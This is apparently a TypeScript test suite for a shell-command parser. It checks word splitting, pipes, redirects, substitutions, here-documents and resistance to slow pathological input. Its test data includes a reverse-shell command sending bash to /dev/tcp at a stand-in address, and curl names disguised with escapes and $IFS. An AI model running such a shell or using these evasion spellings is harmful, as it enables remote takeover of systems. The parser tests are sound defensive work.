import assert from 'node:assert/strict';
import { test } from 'node:test';
import { growth } from '../../lib/testing.ts';
import { MARK, MOST_STEPS, readShellText, type Step } from './shell-text.ts';

const words = (text: string): readonly (readonly string[])[] => readShellText(text).steps.map((step) => step.words);
const last = (text: string): Step => {
  const step = readShellText(text).steps.at(-1);
  assert.ok(step !== undefined, 'a step');
  return step;
};

const WORDS: Record<string, [text: string, wanted: readonly (readonly string[])[]]> = {
  'one command': ['date -u', [['date', '-u']]],
  'separators of every kind': ['a; b && c || d & e\nf', [['a'], ['b'], ['c'], ['d'], ['e'], ['f']]],
  'single and double quotes': [`echo 'a b' "c d"`, [['echo', 'a b', 'c d']]],
  'quotes inside a word': [`cu''rl h"tt"p`, [['curl', 'http']]],
  'a backslash in a word': ['cu\\rl x', [['curl', 'x']]],
  'a line that goes on': ['curl \\\n -s x', [['curl', '-s', 'x']]],
  'escapes in ANSI-C quotes': [`$'\\x63\\165rl' $'a\\tb'`, [['curl', 'a\tb']]],
  'the field separator for a blank': [`curl$IFS-s\${IFS}x`, [['curl', '-s', 'x']]],
  'a comment': ['a # b; c\nd', [['a'], ['d']]],
  'a hash inside a word': ['a b#c', [['a', 'b#c']]],
  'a parameter with a default': [`echo \${A:-b c}`, [['echo', `\${A:-b c}`]]],
  'words in front of a command': ['if a; then b; else c; fi', [['a'], ['b'], ['c']]],
  'a loop': ['while true; do sleep 5; done', [['true'], ['sleep', '5']]],
  'the list of a loop': [
    'for x in a b; do echo $x; done',
    [
      ['for', 'x', 'in', 'a', 'b'],
      ['echo', '$x'],
    ],
  ],
  'a case and its patterns': ['case $x in a|b) one;; *) two;; esac', [['case', '$x', 'in', 'a'], ['one'], ['two']]],
  'a function': ['go() { date; }; go', [['date'], ['go']]],
  'a quoted reserved word': ["'if' x", [['if', 'x']]],
  'a subshell': ['(a; b)', [['a'], ['b']]],
  'nothing at all': ['  \n;;', []],
};
for (const [name, [text, wanted]] of Object.entries(WORDS)) {
  test(`words of ${name}`, () => assert.deepEqual(words(text), wanted));
}

const PIPES: Record<string, [text: string, from: readonly string[]]> = {
  'a pipe': ['a | b', ['a']],
  'a pipe with errors': ['a |& b', ['a']],
  'a pipe out of a group': ['{ a; b; } | c', ['a', 'b']],
  'a pipe out of a subshell': ['(a; b) | c', ['a', 'b']],
  'a pipe out of a loop': ['while a; do b; done | c', ['a', 'b']],
  'a pipe into a loop': ['a | while read x; do b; done', ['a']],
  'a pipe into a group': ['a | { b; }', ['a']],
  'no pipe after a semicolon': ['a | b; c', []],
  'no pipe after an or': ['a || b', []],
};
for (const [name, [text, from]] of Object.entries(PIPES)) {
  test(`input of ${name}`, () =>
    assert.deepEqual(
      last(text).from.map((step) => step.words[0]),
      from,
    ));
}

const REDIRECTS: Record<string, [text: string, wanted: readonly (readonly [number | null, string, string])[]]> = {
  'a file': ['a > /x', [[null, '>', '/x']]],
  'an appended file': ['a >>/x', [[null, '>>', '/x']]],
  'a number in front': ['a 2>/dev/null', [[2, '>', '/dev/null']]],
  'a word that ends in a number': ['a b2>/x', [[null, '>', '/x']]],
  'both streams': ['a &>/x', [[null, '&>', '/x']]],
  'a copied descriptor': [
    'bash -i >& /dev/tcp/192.0.2.1/443 0>&1',
    [
      [null, '>&', '/dev/tcp/192.0.2.1/443'],
      [0, '>&', '1'],
    ],
  ],
  'reading and writing': ['exec 3<>/dev/tcp/a/1', [[3, '<>', '/dev/tcp/a/1']]],
  'a here-string': ['sh <<< "a b"', [[null, '<<<', 'a b']]],
};
for (const [name, [text, wanted]] of Object.entries(REDIRECTS)) {
  test(`redirects of ${name}`, () =>
    assert.deepEqual(
      last(text).redirects.map(({ fd, op, target }) => [fd, op, target]),
      wanted,
    ));
}

test('a substitution stands as a mark, with its steps', () => {
  const step = last('eval "$(a | b)" `c` <(d)');
  assert.deepEqual(step.words, ['eval', MARK, MARK, MARK]);
  assert.deepEqual(
    step.within.map(({ word, steps }) => [word, steps.map((one) => one.words[0])]),
    [
      [1, ['a', 'b']],
      [2, ['c']],
      [3, ['d']],
    ],
  );
});

test('substitutions in substitutions, and quotes in both', () => {
  const step = last('echo "x$(a "$(b c)")y"');
  assert.deepEqual(step.words, ['echo', `x${MARK}y`]);
  assert.deepEqual(words('echo "x$(a "$(b c)")y"'), [
    ['b', 'c'],
    ['a', MARK],
    ['echo', `x${MARK}y`],
  ]);
});

test('the body of a here-document belongs to its command', () => {
  const { steps } = readShellText("cat <<'EOF' > /x | sort\none; two\n  EOF\nEOF\nthree");
  assert.deepEqual(
    steps.map((step) => step.words[0]),
    ['cat', 'sort', 'three'],
  );
  assert.equal(steps[0]?.heredoc, 'one; two\n  EOF\n');
  assert.equal(steps[0]?.redirects[0]?.target, '/x');
});

test('two here-documents in one line, the second without its end', () => {
  const { steps } = readShellText('a <<A; b <<-B\n1\nA\n\t2\n');
  assert.deepEqual(
    steps.map((step) => step.heredoc),
    ['1\n', '\t2\n'],
  );
});

test('text that no shell would take is read as far as it goes', () => {
  for (const text of ["a 'b", 'a "b', 'a $(b', 'a `b', 'a )) b', 'done; fi; }', '((((', 'a <<', 'a >', '${', "$'\\"]) {
    assert.doesNotThrow(() => readShellText(text));
  }
  assert.deepEqual(words('a $(b "c'), [
    ['b', 'c'],
    ['a', MARK],
  ]);
});

test('a text of too many steps is cut, and says so', () => {
  const { steps, cut } = readShellText('a;'.repeat(MOST_STEPS + 5));
  assert.equal(steps.length, MOST_STEPS);
  assert.ok(cut);
  assert.ok(!readShellText('a;b').cut);
});

const HOSTILE = [
  '$(',
  '`',
  '(',
  '{ ',
  'a|',
  '<<a ',
  '<<a\n',
  "'",
  '"',
  "$'",
  '${',
  'x() ',
  'case a in b) ',
  '>',
  'if ',
  '\\',
  'a<<a|',
  '"$(',
];
for (const piece of HOSTILE) {
  test(`linear on repeated ${JSON.stringify(piece)}`, () => {
    const ratio = growth((size) => readShellText(piece.repeat(Math.ceil(size / piece.length))), 100_000);
    assert.ok(ratio < 12, `four times the text took ${ratio.toFixed(1)} times as long`);
  });
}
